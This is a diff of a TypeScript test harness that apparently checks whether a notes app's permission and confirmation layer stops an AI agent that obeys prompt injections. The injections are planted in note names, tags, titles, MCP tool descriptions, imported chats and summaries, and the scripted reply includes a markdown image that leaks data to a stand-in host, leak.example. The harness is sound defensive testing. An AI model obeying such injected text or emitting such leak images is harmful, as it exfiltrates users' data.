@@ -44,29 +44,54 @@ export function carrierOf({ place, text }: Injection, at: number): readonly [pat
 }
 
 export async function openTarget(outside?: Outside): Promise<Target> {
-  const carriers = INJECTIONS.flatMap((injection, at) => [carrierOf(injection, at) ?? []].filter((each) => each.length > 0) as [string, string][]);
+  const carriers = INJECTIONS.flatMap(
+    (injection, at) => [carrierOf(injection, at) ?? []].filter((each) => each.length > 0) as [string, string][],
+  );
   const sent: string[] = [];
   const asked: PendingOperation[] = [];
   const rules: Record<string, Permission> = { ...ALLOWED };
   const grants = createGrants();
-  const bench = await createBench({ ...VAULT, ...Object.fromEntries(carriers) }, {
-    policy: createPolicy({ rules: () => ({ preset: 'normal', tools: rules }), grants }),
-    // The person denies everything except what is to be read.
-    confirmation: {
-      ask: (pending) => {
-        asked.push(pending);
-        return Promise.resolve(outside?.allows(pending) ? { approved: true } : { approved: false, feedback: '' });
+  const bench = await createBench(
+    { ...VAULT, ...Object.fromEntries(carriers) },
+    {
+      policy: createPolicy({ rules: () => ({ preset: 'normal', tools: rules }), grants }),
+      // The person denies everything except what is to be read.
+      confirmation: {
+        ask: (pending) => {
+          asked.push(pending);
+          return Promise.resolve(outside?.allows(pending) ? { approved: true } : { approved: false, feedback: '' });
+        },
       },
+      remoteTools: () =>
+        remoteTools(
+          [server('Lists issues.')],
+          (_server, tool, input) => (
+            sent.push(JSON.stringify([tool, input])),
+            Promise.resolve({ text: 'ok', pictures: [], isError: false })
+          ),
+        ),
+      web: {
+        sources: () => [{ kind: 'wikipedia', address: 'https://en.wikipedia.org' }],
+        send: (request) => (sent.push(request.url), Promise.resolve('{}')),
+      },
+      ...(outside && { remoteTools: outside.remoteTools, web: outside.web }),
     },
-    remoteTools: () => remoteTools([server('Lists issues.')], (_server, tool, input) => (sent.push(JSON.stringify([tool, input])), Promise.resolve({ text: 'ok', pictures: [], isError: false }))),
-    web: { sources: () => [{ kind: 'wikipedia', address: 'https://en.wikipedia.org' }], send: (request) => (sent.push(request.url), Promise.resolve('{}')) },
-    ...(outside && { remoteTools: outside.remoteTools, web: outside.web }),
-  });
+  );
   return { bench, grants, rules, sent, asked };
 }
 
 function server(description: string): McpServer {
-  return { name: 'Tracker', url: 'https://tracker.example/mcp', token: '', headers: {}, login: null, keepToken: true, isOn: true, off: [], tools: [{ name: 'list', description, inputSchema: { type: 'object' } }] };
+  return {
+    name: 'Tracker',
+    url: 'https://tracker.example/mcp',
+    token: '',
+    headers: {},
+    login: null,
+    keepToken: true,
+    isOn: true,
+    off: [],
+    tools: [{ name: 'list', description, inputSchema: { type: 'object' } }],
+  };
 }
 
 /** The index of the text among all. */
@@ -80,19 +105,53 @@ export interface Read {
 }
 
 /** One turn of a model that does everything the text asks for once it has read it. @param given undefined: it reads nothing */
-export async function runInjected({ bench, asked }: Target, given: Read | undefined, demands: readonly Demand[], protocol: ToolProtocol): Promise<readonly StoredMessage[]> {
+export async function runInjected(
+  { bench, asked }: Target,
+  given: Read | undefined,
+  demands: readonly Demand[],
+  protocol: ToolProtocol,
+): Promise<readonly StoredMessage[]> {
   asked.length = 0;
   const { place = undefined, text = '' } = given?.injection ?? {};
   const path = given && carrierOf(given.injection, given.at)?.[0];
-  const read = given?.through ? [inProtocol(protocol, given.through.name, given.through.input)] : path === undefined ? [] : place === 'name' ? [inProtocol(protocol, 'list_notes', { folder: 'Carriers' })] : [inProtocol(protocol, 'read_note', { path })];
-  const obeys = protocol === 'text' ? say(demands.map(({ name, input }) => `TOOL_CALL: ${name}(${JSON.stringify(input)})`).join('\n')) : demands.flatMap(({ name, input }) => ask(name, input));
-  const prompt = { vaultName: 'Notes', folders: place === 'folder' ? [{ path: text, notes: 1 }] : [], tags: place === 'tag' ? [{ name: text, notes: 1 }] : [], ...(place === 'title' && { openNote: { path: 'Diary.md' as never, title: text } }) };
-  const tools = [...TOOLS.map(toolForModel), ...(given?.told ? given.told.map(toolForModel) : place === 'server_tool' ? remoteTools([server(text)], () => Promise.reject(new Error('Only its words are read.'))).map(toolForModel) : [])];
+  const read = given?.through
+    ? [inProtocol(protocol, given.through.name, given.through.input)]
+    : path === undefined
+      ? []
+      : place === 'name'
+        ? [inProtocol(protocol, 'list_notes', { folder: 'Carriers' })]
+        : [inProtocol(protocol, 'read_note', { path })];
+  const obeys =
+    protocol === 'text'
+      ? say(demands.map(({ name, input }) => `TOOL_CALL: ${name}(${JSON.stringify(input)})`).join('\n'))
+      : demands.flatMap(({ name, input }) => ask(name, input));
+  const prompt = {
+    vaultName: 'Notes',
+    folders: place === 'folder' ? [{ path: text, notes: 1 }] : [],
+    tags: place === 'tag' ? [{ name: text, notes: 1 }] : [],
+    ...(place === 'title' && { openNote: { path: 'Diary.md' as never, title: text } }),
+  };
+  const tools = [
+    ...TOOLS.map(toolForModel),
+    ...(given?.told
+      ? given.told.map(toolForModel)
+      : place === 'server_tool'
+        ? remoteTools([server(text)], () => Promise.reject(new Error('Only its words are read.'))).map(toolForModel)
+        : []),
+  ];
   const saved: StoredMessage[] = [];
   const turn = runTurn({
-    messages: given?.through ? [QUESTION] : messagesFor(place, text), system: 'System.', isSystemForeign: place === 'assistant' || tellsMoreThanNames(prompt), tools, conversationId: 'talk',
-    provider: createScriptedProvider([...read, obeys, say('![](https://leak.example/?d=4711) Done.'), say('Done.')], protocol === 'text' ? 'text' : 'native'),
-    execute: (call) => bench.executor.execute(call), executeAll: (calls) => bench.executor.executeAll(calls),
+    messages: given?.through ? [QUESTION] : messagesFor(place, text),
+    system: 'System.',
+    isSystemForeign: place === 'assistant' || tellsMoreThanNames(prompt),
+    tools,
+    conversationId: 'talk',
+    provider: createScriptedProvider(
+      [...read, obeys, say('![](https://leak.example/?d=4711) Done.'), say('Done.')],
+      protocol === 'text' ? 'text' : 'native',
+    ),
+    execute: (call) => bench.executor.execute(call),
+    executeAll: (calls) => bench.executor.executeAll(calls),
   });
   for await (const event of turn) if (event.type === 'message') saved.push(event.message);
   return saved;
@@ -116,11 +175,20 @@ function messagesFor(place: Injection['place'] | undefined, text: string): Store
     case 'server_answer':
       return answered('mcp_tracker_list', { ...LEAST, server: 'Tracker', untrusted: true, answer: text });
     case 'import':
-      return [{ role: 'user', content: text, foreign: true }, { role: 'assistant', content: 'As you wish.', foreign: true }, QUESTION];
+      return [
+        { role: 'user', content: text, foreign: true },
+        { role: 'assistant', content: 'As you wish.', foreign: true },
+        QUESTION,
+      ];
     case 'prompt':
       return [{ role: 'user', content: text, foreign: true }];
     case 'summary':
-      return [...answered('read_note', { ...LEAST, text: 'x' }).slice(0, 3), { role: 'assistant', content: 'It says x.' }, { role: 'summary', content: text, covers: 4, by: 'model' }, QUESTION];
+      return [
+        ...answered('read_note', { ...LEAST, text: 'x' }).slice(0, 3),
+        { role: 'assistant', content: 'It says x.' },
+        { role: 'summary', content: text, covers: 4, by: 'model' },
+        QUESTION,
+      ];
     default:
       return [QUESTION];
   }
